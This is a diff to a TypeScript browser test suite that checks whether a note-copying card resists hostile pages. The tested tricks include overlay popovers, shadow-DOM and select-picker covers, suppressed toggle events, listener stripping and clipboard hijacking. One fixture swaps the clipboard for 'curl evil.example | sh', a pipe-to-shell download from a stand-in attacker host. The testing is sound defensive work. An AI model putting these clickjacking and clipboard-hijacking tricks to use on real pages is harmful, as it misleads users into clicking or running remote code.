@@ -34,7 +34,11 @@ const TRICKS: readonly (readonly [what: string, trick: Trick])[] = [
   ['shows it anew', showAnew],
   ['lays a popover over it, again and again', coverAgain],
   ['shows a popover anew that was there before it', showVeil],
+  ['shows it anew where no event of it is heard', showUnheard],
+  ['lays a popover of a shadow tree over it', coverFromShadow],
+  ['lays the list of a field over it', coverByList],
   ['goes over into another view', goOver],
+  ['takes the card over into another view', goOverInCard],
   ['opens a dialog over it', openDialog],
 ];
 
@@ -131,7 +135,7 @@ describe.each(BROWSERS)('a page against the card in %s', (kind) => {
 
   /** Press where a button of the card was, just after the page has done its trick. */
   async function pressUnder(trick: Trick): Promise<Page> {
-    const page = await openCard('', VEIL);
+    const page = await openCard(STOP_TOGGLES, VEIL);
     const spot = await spotOf(page, 'I know this');
     await pause(GUARD_MS);
     await page.evaluate(
@@ -251,12 +255,23 @@ describe.each(BROWSERS)('a page against the card in %s', (kind) => {
       await page.close();
     });
 
-    it('that keeps us from copying does not make us say that it is done', async () => {
-      const page = await openBarred(`addEventListener('copy', (event) => {
-        event.clipboardData.setData('text/plain', String(getSelection()) || 'curl evil.example | sh');
-        event.preventDefault();
-        event.stopImmediatePropagation();
-      }, true)`);
+    it('that would keep us from copying has ours copied, too', async () => {
+      const page = await openBarred(STOP_COPIES);
+      await pressInNewCard(page, 'Copy note');
+      await waitForCard(page, /Copied\./);
+      expect(await paste(page)).toMatch(/^\*\*EDSCG\*\* · Extended Deterrence Strategy/);
+      await page.close();
+    });
+
+    it('that has got rid of our listeners does not make us say that it is done', async () => {
+      const page = await openBarred(`
+        addEventListener('load', () => {
+          const html = document.documentElement.outerHTML.replace(/<script>[^]*?<\\/script>/, '');
+          document.open();
+          ${STOP_COPIES}
+          document.write(html);
+          document.close();
+        })`);
       await pressInNewCard(page, 'Copy note');
       await waitForCard(page, /blocked copying/);
       expect(await paste(page)).not.toContain('EDSCG');
@@ -299,6 +314,18 @@ const DEFINE = `
       }
     });
   }`;
+
+/** Puts another text into the clipboard, and keeps what is copied from all that listens later. */
+const STOP_COPIES = `addEventListener('copy', (event) => {
+  event.clipboardData.setData('text/plain', String(getSelection()) || 'curl evil.example | sh');
+  event.preventDefault();
+  event.stopImmediatePropagation();
+}, true);`;
+
+/** Keeps what is shown and hidden from all that listens later. */
+const STOP_TOGGLES = `addEventListener('beforetoggle', (event) => {
+  if (globalThis.isSilent) event.stopImmediatePropagation();
+}, true)`;
 
 /** A popover of the page that is open before the card is, and lets the pointer through. */
 const VEIL = `
@@ -375,6 +402,55 @@ function showVeil(): void {
   const veil = document.querySelector<HTMLElement>('#veil');
   veil?.hidePopover();
   veil?.showPopover();
+}
+
+function showUnheard(): void {
+  Object.assign(globalThis, { isSilent: true });
+  const veil = document.querySelector<HTMLElement>('#veil');
+  veil?.hidePopover();
+  veil?.showPopover();
+}
+
+async function coverFromShadow(_: HTMLElement, spot: Spot): Promise<void> {
+  const holder = document.createElement('div');
+  document.body.append(holder);
+  const root = holder.attachShadow({ mode: 'closed' });
+  const cover = document.createElement('div');
+  cover.popover = 'manual';
+  cover.style.cssText = `pointer-events: none; inset: 0; width: 100%; height: ${spot.y * 2}px`;
+  root.append(cover);
+  cover.showPopover();
+  // It would count by now, were the cover not there.
+  await new Promise((resolve) => setTimeout(resolve, 500));
+}
+
+function coverByList(host: HTMLElement): void {
+  // Only where a page may draw such lists itself can it say how large they are.
+  if (!CSS.supports('appearance', 'base-select')) {
+    host.hidePopover();
+    return;
+  }
+  const style = document.createElement('style');
+  style.textContent =
+    'select, ::picker(select) { appearance: base-select } ::picker(select) ' +
+    '{ pointer-events: none; position: fixed; inset: 0; width: 100vw; height: 100vh }';
+  document.head.append(style);
+  const field = document.createElement('select');
+  field.append(new Option('Press here to go on.'));
+  document.body.append(field);
+  // The driver acts as if the reader had pressed something.
+  field.showPicker();
+}
+
+async function goOverInCard(host: HTMLElement): Promise<void> {
+  // Firefox knows views of the document alone.
+  if (!('startViewTransition' in host)) return host.hidePopover();
+  const style = document.createElement('style');
+  style.textContent =
+    '::view-transition { pointer-events: none } ' +
+    '::view-transition-group(*) { animation-duration: 60s !important }';
+  document.head.append(style);
+  await (host as unknown as Document).startViewTransition(() => {}).ready;
 }
 
 function goOver(): Promise<unknown> {
